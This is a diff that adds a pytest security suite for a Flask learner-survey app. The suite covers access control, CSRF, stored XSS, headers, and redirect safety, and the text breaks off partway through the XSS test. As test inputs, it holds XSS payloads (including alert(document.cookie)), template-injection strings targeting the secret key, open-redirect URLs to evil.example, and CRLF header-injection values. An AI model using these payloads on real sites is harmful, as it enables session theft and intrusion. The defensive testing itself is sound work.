@@ -1,0 +1,1604 @@
+"""Security tests that try to break the app (OWASP ASVS L2 where it applies).
+
+1. the access matrix: every route x every kind of visitor x every method, against a table;
+2. CSRF: every POST without a token, or with a wrong one, is refused and changes nothing; no GET
+   changes the database;
+3. stored XSS through every free-text field, and formula injection in every CSV export;
+4. security headers and cookie flags on every response, no inline script or style, no internals
+   on error pages;
+5. personal links, setup links and staff sessions: stored hashed, looked up by hash, revocable;
+6. property-based fuzzing of every POST route with random and malformed form data.
+
+Self-contained: it builds its own apps and visitors and shares nothing with the other test files.
+"""
+
+from __future__ import annotations
+
+import csv
+import hashlib
+import io
+import json
+import re
+import sqlite3
+from contextlib import closing
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+from flask import url_for
+from hypothesis import HealthCheck, event, given, settings
+from hypothesis import strategies as st
+from markupsafe import escape
+from werkzeug.security import generate_password_hash
+
+import survey.db
+from survey import create_app, store
+from survey.content import ANSWERS
+
+PASSWORD = "correct horse battery staple"
+# werkzeug's scrypt with small work factors: sign-in still goes through the real form and
+# check_password_hash, in a millisecond instead of the real cost
+FAST_HASH = generate_password_hash(PASSWORD, method="scrypt:1024:8:1")
+SECRET = "security-tests-secret-key-4f1d2c9a8b7e"
+VALID = ["A3", "B2", "C3", "D1"]  # a plan that meets every rule of combination
+ROW = {
+    "units": ["F1"],
+    "observed_when": "Tuesday morning",
+    "observed_where": "Front desk",
+    "activity": "Greeting visitors",
+    "evidence": ["observation"],
+}
+CSRF_FIELD = re.compile(r'name="csrf_token" type="hidden" value="([^"]+)"')
+CSRF_WORDS = "came from somewhere else"  # the error page's words for a CSRF failure
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+VISITORS = ("anonymous", "learner_a", "learner_b", "assessor_a", "assessor_b", "verifier", "admin")
+STAFF_NAMES = {
+    "admin": "Ada Admin",
+    "assessor_a": "Asha Assessor",
+    "assessor_b": "Bo Assessor",
+    "verifier": "Vic Verifier",
+}
+
+
+# ---- the expected access table ---------------------------------------------------------------
+#
+# outcomes: "ok" (served, or a 2xx/3xx/4xx that is about the request, not about who asks),
+# "login" (302 to /staff/login?next=...), "code" (302 to /code?next=...: a learner page asking who
+# this is), "unauth" (401, the learner's background saver), "forbidden" (403), "notfound" (404)
+
+
+def _row(*outcomes: str) -> dict[str, str]:
+    assert len(outcomes) == len(VISITORS)
+    return dict(zip(VISITORS, outcomes))
+
+
+#                   anonymous  learner_a learner_b assessor_a assessor_b  verifier    admin
+EVERYONE = _row("ok", "ok", "ok", "ok", "ok", "ok", "ok")
+NOBODY = _row(*["notfound"] * 7)
+LEARNERS = _row("code", "ok", "ok", "code", "code", "code", "code")
+LEARNER_JSON = _row("unauth", "ok", "ok", "unauth", "unauth", "unauth", "unauth")
+ONLY_A = _row("code", "ok", "notfound", "code", "code", "code", "code")
+STAFF = _row("login", "login", "login", "ok", "ok", "ok", "ok")
+STAFF_WRITE = _row("login", "login", "login", "ok", "ok", "forbidden", "ok")
+READ_A = _row("login", "login", "login", "ok", "notfound", "ok", "ok")
+WRITE_A = _row("login", "login", "login", "ok", "notfound", "forbidden", "ok")
+ADMIN = _row("login", "login", "login", "forbidden", "forbidden", "forbidden", "ok")
+ADMIN_OR_VERIFIER = _row("login", "login", "login", "forbidden", "forbidden", "ok", "ok")
+
+EXPECTED: dict[str, dict[str, dict[str, str]]] = {
+    "public.index": {"GET": EVERYONE},
+    "public.unit": {"GET": EVERYONE},
+    "qr.unit_svg": {"GET": EVERYONE},
+    "qr.sheet": {"GET": EVERYONE},
+    "learner.enter": {"GET": EVERYONE},
+    "learner.code": {"GET": EVERYONE, "POST": EVERYONE},
+    "learner.forget": {"GET": EVERYONE, "POST": EVERYONE},
+    "learner.assessment": {"GET": LEARNERS},
+    "learner.page": {"GET": LEARNERS, "POST": LEARNERS},
+    "learner.submit": {"POST": LEARNERS},
+    "learner.reopen": {"POST": LEARNERS},
+    "learner.save_one": {"POST": LEARNER_JSON},
+    "learner.result": {"GET": LEARNERS},
+    "learner.unit_check": {"GET": LEARNERS, "POST": LEARNERS},
+    "learner.check_save_one": {"POST": LEARNER_JSON},
+    "learner.check_result": {"GET": ONLY_A},  # learner B on learner A's check: 404
+    "learner.contract": {"GET": LEARNERS, "POST": ONLY_A},  # B has no contract to sign: 404
+    "learner.record": {"GET": LEARNERS},
+    "learner.my_data_json": {"GET": LEARNERS},
+    "learner.my_data_csv": {"GET": LEARNERS},
+    "auth.login": {"GET": EVERYONE, "POST": EVERYONE},
+    "auth.logout": {"POST": EVERYONE},
+    "auth.setup": {"GET": NOBODY, "POST": NOBODY},  # staff exist: the setup link is spent
+    "staff.home": {"GET": STAFF},
+    "staff.learners": {"GET": STAFF},
+    "staff.add_learner": {"POST": STAFF_WRITE},
+    "staff.import_learners": {"POST": STAFF_WRITE},
+    "staff.learner": {"GET": READ_A},
+    "staff.reissue": {"POST": WRITE_A},
+    "staff.archive": {"POST": WRITE_A},
+    "staff.assign": {"POST": ADMIN},
+    "staff.save_ratings": {"POST": WRITE_A},
+    "staff.report_csv": {"GET": READ_A},
+    "staff.plan": {"GET": READ_A, "POST": WRITE_A},
+    "staff.plan_check": {"POST": READ_A},  # checks a plan without saving: verifiers may
+    "staff.assessment_plan": {"GET": READ_A, "POST": WRITE_A},
+    "staff.delete_plan_row": {"POST": WRITE_A},
+    "staff.contract": {"GET": READ_A, "POST": WRITE_A},
+    "staff.learner_audit": {"GET": READ_A},
+    "staff.audit": {"GET": ADMIN_OR_VERIFIER},
+    "staff.cohort": {"GET": STAFF},
+    "staff.cohort_export": {"GET": STAFF},
+    "staff.users": {"GET": ADMIN, "POST": ADMIN},
+    "staff.disable_user": {"POST": ADMIN},
+    # data protection (export, erasure)
+    "staff.export_learner_json": {"GET": READ_A},
+    "staff.export_learner_csv": {"GET": READ_A},
+    "staff.erase_learner": {"POST": ADMIN},
+}
+POST_ENDPOINTS = sorted(e for e, methods in EXPECTED.items() if "POST" in methods)
+GET_ENDPOINTS = sorted(e for e, methods in EXPECTED.items() if "GET" in methods)
+
+
+# ---- helpers ---------------------------------------------------------------------------------
+
+
+def text(response) -> str:
+    return response.get_data(as_text=True)
+
+
+def scrape_csrf(response) -> str:
+    found = CSRF_FIELD.search(text(response))
+    assert found, f"no CSRF token on {response.request.path}"
+    return found.group(1)
+
+
+def outcome(response) -> str:
+    status = response.status_code
+    if status in (301, 302, 303, 307, 308):
+        where = urlsplit(response.headers.get("Location", ""))
+        if where.path == "/staff/login" and "next=" in where.query:
+            return "login"
+        if where.path == "/code" and "next=" in where.query:
+            return "code"
+        return "ok"
+    if status == 400 and CSRF_WORDS in text(response):
+        return "csrf-refused"
+    return {401: "unauth", 403: "forbidden", 404: "notfound"}.get(
+        status, "error" if status >= 500 else "ok"
+    )
+
+
+def dump_db(path: str | Path) -> dict[str, list[str]]:
+    """Every row of every table, to show that nothing changed."""
+    with closing(sqlite3.connect(str(path))) as db:
+        tables = [
+            r[0]
+            for r in db.execute("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name")
+        ]
+        return {t: sorted(map(repr, db.execute(f"SELECT * FROM [{t}]"))) for t in tables}
+
+
+def changed_tables(before: dict, after: dict) -> list[str]:
+    return sorted(t for t in set(before) | set(after) if before.get(t) != after.get(t))
+
+
+def db_bytes(path: str | Path) -> bytes:
+    """The database file and its write-ahead log, as stored on disk."""
+    data = b""
+    for suffix in ("", "-wal", "-journal"):
+        p = Path(str(path) + suffix)
+        if p.exists():
+            data += p.read_bytes()
+    return data
+
+
+class InlineFinder(HTMLParser):
+    """Finds what a strict CSP would block or what betrays markup injection."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.problems: list[str] = []
+        self._script = False
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        for name, value in attrs:
+            if name == "style":
+                self.problems.append(f"style= attribute on <{tag}>")
+            if re.fullmatch(r"on[a-z]+", name):
+                self.problems.append(f"{name}= handler on <{tag}>")
+            if name in ("href", "src", "action", "formaction", "xlink:href") and value:
+                if re.sub(r"[\s\x00-\x1f]", "", value).lower().startswith("javascript:"):
+                    self.problems.append(f"javascript: URL in <{tag} {name}>")
+        if tag == "script":
+            self._script = True
+            if not dict(attrs).get("src"):
+                self.problems.append("<script> without src")
+        if tag == "style":
+            self.problems.append("inline <style> element")
+        if tag in ("iframe", "object", "embed", "base"):
+            self.problems.append(f"<{tag}> element")
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag == "script":
+            self._script = False
+
+    def handle_data(self, data: str) -> None:
+        if self._script and data.strip():
+            self.problems.append(f"inline script body {data.strip()[:40]!r}")
+
+
+def inline_problems(body: str) -> list[str]:
+    finder = InlineFinder()
+    finder.feed(body)
+    finder.close()
+    return finder.problems
+
+
+def header_problems(response) -> list[str]:
+    problems = []
+    csp = response.headers.get("Content-Security-Policy", "")
+    directives = {}
+    for part in csp.split(";"):
+        words = part.split()
+        if words:
+            directives[words[0]] = words[1:]
+    if directives.get("default-src") != ["'self'"]:
+        problems.append(f"CSP default-src is {directives.get('default-src')}")
+    if directives.get("frame-ancestors") != ["'none'"]:
+        problems.append(f"CSP frame-ancestors is {directives.get('frame-ancestors')}")
+    for directive in ("script-src", "style-src"):
+        if directive in directives and directives[directive] != ["'self'"]:
+            problems.append(f"CSP {directive} is {directives[directive]}")
+    if directives.get("object-src") != ["'none'"]:
+        problems.append("CSP object-src is not 'none'")
+    for bad in ("unsafe-inline", "unsafe-eval", "unsafe-hashes", "*", "http:", "https:"):
+        if any(bad == w.strip("'") for words in directives.values() for w in words):
+            problems.append(f"CSP allows {bad}")
+    if response.headers.get("X-Content-Type-Options") != "nosniff":
+        problems.append("no X-Content-Type-Options: nosniff")
+    if response.headers.get("Referrer-Policy") not in (
+        "no-referrer",
+        "same-origin",
+        "strict-origin",
+        "strict-origin-when-cross-origin",
+    ):
+        problems.append(f"Referrer-Policy is {response.headers.get('Referrer-Policy')!r}")
+    for cookie in response.headers.getlist("Set-Cookie"):
+        flags = [f.strip().lower() for f in cookie.split(";")[1:]]
+        if "httponly" not in flags:
+            problems.append(f"cookie without HttpOnly: {cookie[:40]}")
+        if "samesite=lax" not in flags and "samesite=strict" not in flags:
+            problems.append(f"cookie without SameSite=Lax: {cookie[:40]}")
+    return problems
+
+
+def page_problems(response) -> list[str]:
+    """Headers on every response; no inline script or style in any HTML page."""
+    problems = header_problems(response)
+    if response.mimetype == "text/html":
+        problems += inline_problems(text(response))
+    if b"Traceback (most recent call last)" in response.get_data():
+        problems.append("a traceback in the page")
+    return problems
+
+
+def new_staff(app, role: str, name: str, email: str) -> dict:
+    def create(db):  # type: ignore[no-untyped-def]
+        return store.staff_member(db, store.create_staff(db, email, name, role, FAST_HASH, "test"))
+
+    return with_db(app, create)
+
+
+def sign_in(client, email: str, password: str = PASSWORD):
+    token = scrape_csrf(client.get("/staff/login"))
+    return client.post(
+        "/staff/login", data={"csrf_token": token, "email": email, "password": password}
+    )
+
+
+class Visitor:
+    """A test client with its own session, and the CSRF token of that session."""
+
+    def __init__(self, app, client) -> None:
+        self.app = app
+        self.client = client
+        self.csrf = scrape_csrf(client.get("/code"))
+
+    def get(self, path: str, **kwargs):
+        return self.client.get(path, **kwargs)
+
+    def post(self, path: str, data: dict | None = None, **kwargs):
+        return self.client.post(path, data={"csrf_token": self.csrf, **(data or {})}, **kwargs)
+
+
+def staff_visitor(app, role: str, name: str, email: str) -> tuple[Visitor, dict]:
+    staff = new_staff(app, role, name, email)
+    client = app.test_client()
+    response = sign_in(client, email)
+    assert response.status_code == 302, text(response)
+    return Visitor(app, client), staff
+
+
+def learner_visitor(app, token: str) -> Visitor:
+    client = app.test_client()
+    assert client.get(f"/l/{token}").status_code == 302
+    return Visitor(app, client)
+
+
+def with_db(app, fn):
+    """Run fn(db) on a connection of its own, closed afterwards."""
+    db = survey.db.connect(app.config["DATABASE"])
+    try:
+        return fn(db)
+    finally:
+        db.conn.close()
+
+
+# ---- the world: one app, two learners, four staff, every kind of visitor ---------------------
+
+
+class World:
+    def __init__(self, app, folder: Path) -> None:
+        self.app = app
+        self.path = app.config["DATABASE"]
+        self.snapshot = str(folder / "snapshot.db")
+        self.cookies: dict[str, str] = {}
+        self.csrf: dict[str, str] = {}
+        self.staff: dict[str, dict] = {}
+        self.learner_a = self.learner_b = 0
+        self.token_a = self.token_b = self.setup_token = ""
+        self.check_a = self.check_b = self.row_a = self.row_b = 0
+
+    # visitors carry only their session cookie: each request gets a new client, so a request
+    # that changes the session (sign-out, a learner link) never changes the visitor
+    def client(self, visitor: str):
+        client = self.app.test_client()
+        if visitor in self.cookies:
+            client.set_cookie(self.app.config["SESSION_COOKIE_NAME"], self.cookies[visitor])
+        return client
+
+    def request(self, visitor: str, method: str, url: str, data=None, csrf: Any = True, **kw):
+        client = self.client(visitor)
+        if method == "GET":
+            return client.get(url, **kw)
+        body = dict(data or {})
+        if csrf is True:
+            body["csrf_token"] = self.csrf[visitor]
+        elif csrf:
+            body["csrf_token"] = csrf
+        return client.post(url, data=body, **kw)
+
+    def session_of(self, visitor: str) -> dict:
+        serializer = self.app.session_interface.get_signing_serializer(self.app)
+        return serializer.loads(self.cookies[visitor])
+
+    def rule(self, endpoint: str):
+        rules = list(self.app.url_map.iter_rules(endpoint)) if endpoint in self.endpoints() else []
+        return rules[0] if rules else None
+
+    def endpoints(self) -> set[str]:
+        return {r.endpoint for r in self.app.url_map.iter_rules()}
+
+    def params(self, endpoint: str) -> dict[str, Any]:
+        values = {
+            "learner_id": self.learner_a,
+            "check_id": self.check_a,
+            "row_id": self.row_a,
+            "number": "B1",
+            "key": "job",
+            "staff_id": self.staff["assessor_b"]["id"],
+            "token": self.setup_token if endpoint == "auth.setup" else self.token_a,
+        }
+        rule = self.rule(endpoint)
+        assert rule is not None
+        unknown = set(rule.arguments) - set(values)
+        assert not unknown, f"{endpoint}: no test value for URL parameter(s) {unknown}"
+        return {k: values[k] for k in rule.arguments}
+
+    def url(self, endpoint: str, **params: Any) -> str:
+        with self.app.test_request_context():
+            return url_for(endpoint, **{**self.params(endpoint), **params})
+
+    def body(self, endpoint: str) -> dict[str, Any]:
+        """A form that would do the route's work, were the visitor allowed and the token good."""
+        return {
+            "learner.code": {"code": self.token_a},
+            "learner.page": {"job_role": "other", "job_role_other": "Barista", "c-writing": "yes"},
+            "learner.save_one": {"name": "r-F1-1.1", "value": "3", "page": "F1-1"},
+            "learner.unit_check": {"r-B1-1.1": "3", "r-B1-1.3": "1"},
+            "learner.check_save_one": {"name": "r-B1-1.4", "value": "3"},
+            "learner.contract": {"name": "Alex Able"},
+            "auth.login": {"email": self.staff["admin"]["email"], "password": PASSWORD},
+            "auth.setup": {
+                "name": "New Admin",
+                "email": "new.admin@centre.example",
+                "password": PASSWORD,
+                "confirm": PASSWORD,
+            },
+            "staff.add_learner": {
+                "name": "Added Learner",
+                "candidate_number": "X1",
+                "job_role": "Chef",
+            },
+            "staff.import_learners": {"rows": "Imported One, 11, Chef\nImported Two, 12, Waiter"},
+            "staff.assign": {"assessor": str(self.staff["assessor_b"]["id"])},
+            "staff.save_ratings": {"a-F1:1.1": "1", "a-B1:1.2": "3"},
+            "staff.plan": {"action": "save", "units": ["A3", "A4", "B2", "C3", "D1"]},
+            "staff.plan_check": {"units": VALID},
+            "staff.assessment_plan": {**ROW, "activity": "Answering the phone"},
+            "staff.contract": {"action": "sign", "name": "Asha Assessor"},
+            "staff.users": {
+                "name": "New Staff",
+                "email": "new.staff@centre.example",
+                "role": "assessor",
+                "password": PASSWORD,
+                "confirm": PASSWORD,
+            },
+            "staff.erase_learner": {"confirm": "Alex Able"},
+        }.get(endpoint, {})
+
+    def take_snapshot(self) -> None:
+        with (
+            closing(sqlite3.connect(self.path)) as src,
+            closing(sqlite3.connect(self.snapshot)) as dst,
+        ):
+            src.backup(dst)
+
+    def restore(self) -> None:
+        with (
+            closing(sqlite3.connect(self.snapshot)) as src,
+            closing(sqlite3.connect(self.path)) as dst,
+        ):
+            src.backup(dst)
+
+    def dump(self) -> dict[str, list[str]]:
+        return dump_db(self.path)
+
+
+def build_world(folder: Path) -> World:
+    app = create_app({"TESTING": True, "SECRET_KEY": SECRET, "DATABASE": str(folder / "world.db")})
+    w = World(app, folder)
+    db = survey.db.connect(w.path)
+    try:
+        w.setup_token = store.create_setup_link(db) or ""  # made while there were no staff
+        for key, name in STAFF_NAMES.items():
+            role = key.split("_")[0]
+            staff_id = store.create_staff(
+                db, f"{key}@centre.example", name, role, FAST_HASH, "test"
+            )
+            w.staff[key] = store.staff_member(db, staff_id)
+        a_staff, b_staff = w.staff["assessor_a"], w.staff["assessor_b"]
+        w.learner_a, w.token_a = store.create_learner(db, "Alex Able", candidate_number="A-1")
+        w.learner_b, w.token_b = store.create_learner(db, "Blake Baker", candidate_number="B-2")
+        store.assign_assessor(db, w.learner_a, a_staff["id"], "test")
+        store.assign_assessor(db, w.learner_b, b_staff["id"], "test")
+        a = w.learner_a
+        store.set_job_role(db, a, "other", "Barista", "test")
+        store.save_contexts(db, a, {"face-to-face": "yes", "writing": "sometimes"}, "test")
+        store.save_ratings(db, a, {"F1:1.1": 2, "F1:1.2": 1, "B1:1.1": 0}, "test")
+        store.set_interest(db, a, "A3", True, "test")
+        store.submit(db, a, "test")
+        store.save_plan(db, a, VALID, a_staff["id"], f"staff:{a_staff['id']}")
+        store.confirm_plan(db, a, a_staff["id"], f"staff:{a_staff['id']}")
+        w.row_a = store.add_plan_row(db, a, ROW, a_staff["id"], "test")
+        w.row_b = store.add_plan_row(db, w.learner_b, ROW, b_staff["id"], "test")
+        store.save_ratings(db, w.learner_b, {"F1:1.1": 1}, "test")
+    finally:
+        db.conn.close()
+    # learner A and learner B each finish a self-check of B1 through the real pages
+    for token in (w.token_a, w.token_b):
+        learner = learner_visitor(app, token)
+        response = learner.post("/check/B1", {"r-B1-1.1": "2", "r-B1-1.2": "3"})
+        assert response.status_code == 303, text(response)
+        check_id = int(response.headers["Location"].rsplit("/", 1)[1])
+        if token == w.token_a:
+            w.check_a = check_id
+        else:
+            w.check_b = check_id
+    # assessor A prepares learner A's learning contract
+    assessor = app.test_client()
+    assert sign_in(assessor, w.staff["assessor_a"]["email"]).status_code == 302
+    response = Visitor(app, assessor).post(
+        f"/staff/learners/{w.learner_a}/contract", {"action": "issue"}
+    )
+    assert response.status_code == 303
+    # every kind of visitor: a session cookie and its CSRF token
+    name = app.config["SESSION_COOKIE_NAME"]
+    for visitor in VISITORS:
+        client = app.test_client()
+        if visitor in w.staff:
+            assert sign_in(client, w.staff[visitor]["email"]).status_code == 302
+        elif visitor == "learner_a":
+            assert client.get(f"/l/{w.token_a}").status_code == 302
+        elif visitor == "learner_b":
+            assert client.get(f"/l/{w.token_b}").status_code == 302
+        w.csrf[visitor] = scrape_csrf(client.get("/code"))
+        cookie = client.get_cookie(name)
+        assert cookie is not None
+        w.cookies[visitor] = cookie.value
+    w.take_snapshot()
+    return w
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory) -> World:
+    return build_world(tmp_path_factory.mktemp("security"))
+
+
+@pytest.fixture
+def w(world: World):
+    """The shared world, put back as it was after the test."""
+    world.restore()
+    yield world
+    world.restore()
+
+
+# ---- 1. the access matrix --------------------------------------------------------------------
+
+
+def test_every_route_is_in_the_expected_access_table(world):
+    missing, methods = [], []
+    for rule in world.app.url_map.iter_rules():
+        if rule.endpoint == "static":
+            continue
+        allowed = sorted((rule.methods or set()) - {"HEAD", "OPTIONS"})
+        if rule.endpoint not in EXPECTED:
+            missing.append(f"{rule.endpoint} {rule.rule} {allowed}")
+        elif sorted(EXPECTED[rule.endpoint]) != allowed:
+            methods.append(f"{rule.endpoint}: the table has {sorted(EXPECTED[rule.endpoint])}")
+    assert not missing, "routes missing from the access table (add them): " + "; ".join(missing)
+    assert not methods, "methods differ from the access table: " + "; ".join(methods)
+
+
+@pytest.mark.parametrize("endpoint", sorted(EXPECTED))
+def test_access_matrix(w, endpoint):
+    """Every visitor x method on this route gets the expected answer; refused or read-only
+    requests change nothing; every response carries the security headers."""
+    rule = w.rule(endpoint)
+    if rule is None:
+        pytest.skip(f"{endpoint} does not exist yet")
+    failures = []
+    url = w.url(endpoint)
+    for method in sorted(EXPECTED[endpoint]):
+        for visitor in VISITORS:
+            expected = EXPECTED[endpoint][method][visitor]
+            before = w.dump()
+            response = w.request(visitor, method, url, w.body(endpoint))
+            got = outcome(response)
+            where = f"{method} {url} as {visitor}"
+            if got != expected:
+                failures.append(
+                    f"{where}: expected {expected}, got {got} ({response.status_code} "
+                    f"{response.headers.get('Location', '')})"
+                )
+            failures += [f"{where}: {p}" for p in page_problems(response)]
+            after = w.dump()
+            if after != before:
+                if method == "GET" or got != "ok":
+                    failures.append(f"{where} ({got}) changed {changed_tables(before, after)}")
+                w.restore()
+    assert not failures, "\n".join(failures)
+
+
+def test_assessor_cannot_delete_another_learners_row_through_their_own_learner(w):
+    before = w.dump()
+    url = f"/staff/learners/{w.learner_a}/assessment-plan/{w.row_b}/delete"
+    response = w.request("assessor_a", "POST", url)
+    assert response.status_code == 404
+    assert w.dump() == before
+
+
+def test_learner_cannot_open_another_learners_check_through_their_own_unit(w):
+    for url in (f"/check/B1/results/{w.check_b}", f"/check/F1/results/{w.check_a}"):
+        assert w.request("learner_a", "GET", url).status_code == 404, url
+
+
+def test_cohort_never_shows_another_assessors_learner_even_when_asked(w):
+    for path in ("/staff/cohort", "/staff/cohort.csv"):
+        response = w.request("assessor_a", "GET", f"{path}?learner={w.learner_b}")
+        assert response.status_code == 200
+        assert "Blake Baker" not in text(response), path
+
+
+def test_a_learner_export_never_reaches_another_assessor(w):
+    for kind in ("json", "csv"):
+        url = f"/staff/learners/{w.learner_b}/export.{kind}"
+        if w.rule(f"staff.export_learner_{kind}") is None:
+            continue
+        assert w.request("assessor_a", "GET", url).status_code == 404
+        assert w.request("assessor_b", "GET", url).status_code == 200
+
+
+@pytest.mark.parametrize(
+    "target",
+    [
+        "https://evil.example/",
+        "//evil.example/staff",
+        "/\\evil.example",
+        "\\\\evil.example",
+        "javascript:alert(1)",
+        "http:evil.example",
+    ],
+)
+def test_sign_in_and_code_never_redirect_off_site(w, target):
+    for path, data in (
+        ("/staff/login", {"email": w.staff["admin"]["email"], "password": PASSWORD}),
+        ("/code", {"code": w.token_a}),
+    ):
+        response = w.request("anonymous", "POST", path, data, query_string={"next": target})
+        assert response.status_code == 302, (path, target)
+        location = response.headers["Location"]
+        assert location.startswith("/") and not location.startswith(("//", "/\\")), location
+        assert "evil" not in location and "\n" not in location and "\r" not in location
+        assert "hacked" not in "".join(response.headers.getlist("Set-Cookie"))
+        w.restore()
+
+
+@pytest.mark.parametrize(
+    ("path", "target"),
+    [
+        ("/staff/login", "/staff/\r\nSet-Cookie: hacked=1"),
+        ("/code", "/check/B1\r\nSet-Cookie: hacked=1"),
+    ],
+)
+def test_a_next_address_with_a_line_break_is_ignored_not_a_500(w, path, target):
+    """Werkzeug refuses the newline in the Location header (no header injection), but the
+    ValueError becomes a 500 after the visitor has signed in (auth._safe_next and
+    learner._safe_next let CR/LF through)."""
+    data = (
+        {"email": w.staff["admin"]["email"], "password": PASSWORD}
+        if path == "/staff/login"
+        else {"code": w.token_a}
+    )
+    response = w.request("anonymous", "POST", path, data, query_string={"next": target})
+    assert response.status_code == 302, response.status_code
+    assert "hacked" not in "".join(response.headers.getlist("Set-Cookie"))
+
+
+# ---- 2. CSRF ---------------------------------------------------------------------------------
+
+
+def _allowed_visitor(endpoint: str) -> str:
+    table = EXPECTED[endpoint]["POST"]
+    for visitor in ("admin", "assessor_a", "learner_a", "learner_b", "anonymous"):
+        if table[visitor] == "ok":
+            return visitor
+    return "anonymous"
+
+
+@pytest.mark.parametrize("endpoint", POST_ENDPOINTS)
+def test_every_post_without_a_good_csrf_token_is_refused_and_changes_nothing(w, endpoint):
+    if w.rule(endpoint) is None:
+        pytest.skip(f"{endpoint} does not exist yet")
+    visitor = _allowed_visitor(endpoint)
+    other = "learner_b" if visitor != "learner_b" else "admin"
+    url, body = w.url(endpoint), w.body(endpoint)
+    attempts = {
+        "no token": {"csrf": None},
+        "another session's token": {"csrf": w.csrf[other]},
+        "a made-up token": {"csrf": "IjAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAi.Z.Z"},
+        "an empty token": {"csrf": ""},
+        "another session's token in the header": {
+            "csrf": None,
+            "headers": {"X-CSRFToken": w.csrf[other]},
+        },
+        "no token, asking for JSON": {"csrf": None, "headers": {"Accept": "application/json"}},
+    }
+    failures = []
+    for name, kwargs in attempts.items():
+        before = w.dump()
+        response = w.request(visitor, "POST", url, body, **kwargs)
+        if response.status_code != 400:
+            failures.append(f"{name}: {response.status_code} instead of 400")
+        failures += [f"{name}: {p}" for p in page_problems(response)]
+        after = w.dump()
+        if after != before:
+            failures.append(f"{name}: changed {changed_tables(before, after)}")
+            w.restore()
+    assert not failures, f"POST {url} as {visitor}:\n" + "\n".join(failures)
+
+
+def test_the_csrf_token_is_tied_to_the_session(w):
+    """A token scraped in one session is no good in another (here: learner B's token used by
+    learner A to save an answer in the background)."""
+    response = w.request(
+        "learner_b",
+        "POST",
+        "/assessment/save",
+        {"name": "r-F1-1.1", "value": "3"},
+        csrf=w.csrf["learner_a"],
+    )
+    assert response.status_code == 400
+
+
+# ---- 3. stored XSS and CSV formula injection -------------------------------------------------
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "</textarea><svg onload=alert(1)>",
+    "{{7*7}}",
+    "{% raw %}{{ config }}{% endraw %}",
+    "{{ config.SECRET_KEY }}",
+    "{{ self.__init__.__globals__ }}",
+    "${7*7}#{7*7}",
+    "\u202egnp.exe\u202c report",  # right-to-left override: "report exe.png"
+    "A" * 5000 + "<script>alert('long')</script>",
+    "' onmouseover='alert(1)' x='",
+    '<a href="javascript:alert(1)">click</a>',
+    "&lt;script&gt;alert(1)&lt;/script&gt;",  # already escaped: must not be un-escaped
+    "</title><script>alert(1)</script>",
+    "<style>body{display:none}</style>",
+    "<iframe src=//evil.example></iframe>",
+    "<!-- comment --><b>bold</b>",
+    "nul\x00byte<b>x</b>",
+    "Zoë 👩🏽‍💼 Ωμέγα \u200b zero-width",
+    "line one\r\nline two<br>",
+    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+    "</script><script>alert(document.cookie)</script>",
+]
+SSTI = {"{{7*7}}": "49", "${7*7}#{7*7}": "${49}"}
+LIMITS = {"name": 120, "candidate": 40, "role": 100, "when": 200, "activity": 2000, "sign": 120}
+
+
+def _fits(value: str, limit: str) -> bool:
+    return 0 < len(value) <= LIMITS[limit]
+
+
+class XssSite:
+    """A fresh app where every payload goes into every free-text field through every way in."""
+
+    def __init__(self, app, runner) -> None:
+        self.app = app
+        self.runner = runner
+        self.admin, _ = staff_visitor(app, "admin", "Xena Admin", "xena@centre.example")
+        self.failures: list[str] = []
+        self.learners: dict[str, int] = {}  # label -> learner id
+        self.tokens: dict[str, str] = {}  # label -> personal token
+
+    def check(self, where: str, response, present: list[str] = ()) -> None:
+        body = text(response)
+        for problem in page_problems(response):
+            self.failures.append(f"{where}: {problem}")
+        for p in PAYLOADS:
+            # (a payload made of entities is another payload's correct escaped form: the
+            # presence check below proves it is escaped once more)
+            if str(escape(p)) != p and "&" not in p and p in body:
+                self.failures.append(f"{where}: payload {p[:40]!r} is in the page unescaped")
+        for p, evaluated in SSTI.items():
+            if re.search(r"[A-Z]\d+ " + re.escape(evaluated), body):
+                self.failures.append(f"{where}: {p} was evaluated")
+        # {{ config }} would print "<Config {...}>"; {{ self.__init__.__globals__ }} a dict
+        # naming __builtins__; neither string is in any payload
+        for leak in (SECRET, "&lt;Config", "<Config", "__builtins__"):
+            if leak in body:
+                self.failures.append(f"{where}: {leak!r} leaked")
+        for value in present:
+            if str(escape(value)) not in body:
+                self.failures.append(f"{where}: {value[:50]!r} not shown (escaped)")
+
+    def cards(self, response) -> list[str]:
+        return re.findall(r"/l/([a-z0-9]{26})", text(response))
+
+
+@pytest.fixture
+def fresh_app(tmp_path):
+    return create_app({"TESTING": True, "SECRET_KEY": SECRET, "DATABASE": str(tmp_path / "x.db")})
+
+
+def _learner_id(app, name: str) -> int:
+    return with_db(
+        app, lambda db: db.execute("SELECT id FROM learners WHERE name = ?", [name]).fetchone()[0]
+    )
+
+
+def test_stored_xss_payloads_are_escaped_everywhere(fresh_app, monkeypatch):
+    assert len(PAYLOADS) >= 15
+    app = fresh_app
+    monkeypatch.setattr("survey.views.staff.hash_password", lambda password: FAST_HASH)
+    site = XssSite(app, app.test_cli_runner())
+    admin = site.admin
+    stored: dict[str, list[str]] = {"names": [], "others": [], "staff": []}
+
+    # learner names, candidate numbers and job roles through the staff form
+    for i, p in enumerate(PAYLOADS):
+        for label, data, limit in (
+            (f"N{i}", {"name": f"N{i} {p}"}, "name"),
+            (f"C{i}", {"name": f"C{i}", "candidate_number": p}, "candidate"),
+            (f"R{i}", {"name": f"R{i}", "job_role": p}, "role"),
+        ):
+            value = list(data.values())[-1]
+            response = admin.post("/staff/learners", data)
+            fits = _fits(value, limit)
+            assert response.status_code == (200 if fits else 400), (label, response.status_code)
+            site.check(f"add {label}", response, [data["name"]] if fits else [])
+            if fits:
+                site.tokens[label] = site.cards(response)[0]
+                site.learners[label] = _learner_id(app, data["name"])
+                stored["names"].append(data["name"])
+                if label != f"N{i}":
+                    stored["others"].append(value.strip()[: LIMITS[limit]])
+
+    # the same through the CSV import, in one go
+    out = io.StringIO()
